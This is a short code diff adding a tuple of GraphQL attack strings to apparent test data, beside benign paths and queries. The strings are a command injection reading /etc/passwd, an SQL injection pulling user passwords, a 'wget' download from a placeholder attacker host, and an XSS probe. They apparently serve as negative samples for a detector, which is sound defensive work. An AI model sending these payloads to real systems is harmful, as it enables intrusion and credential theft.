@@ -51,6 +51,13 @@ PATHS = (
     "/api/v1/orders/2026-1129", "/search", "/de/über-uns", "/help/faq.html", "/healthz", "/users/me",
     "/blog/2026/11/how-we-select-our-suppliers", "/downloads/manual_v2.pdf", "/.well-known/openid-configuration",
 )  # fmt: skip
+GRAPHQL_ATTACKS = (
+    "{ id }; cat /etc/passwd",
+    'query A { a(b: "\' UNION SELECT password FROM users--") }',
+    "; wget http://evil.example/x.sh",
+    'query { a(b: "<script>alert(1)</script>") }',
+)
+"""What is no ordinary query."""
 QUERIES = (
     "{ product(id: 42) { name price reviews(first: 3) { author text } } }",
     "query Orders($after: String) { orders(first: 20, after: $after) { edges { node { id total } } } }",
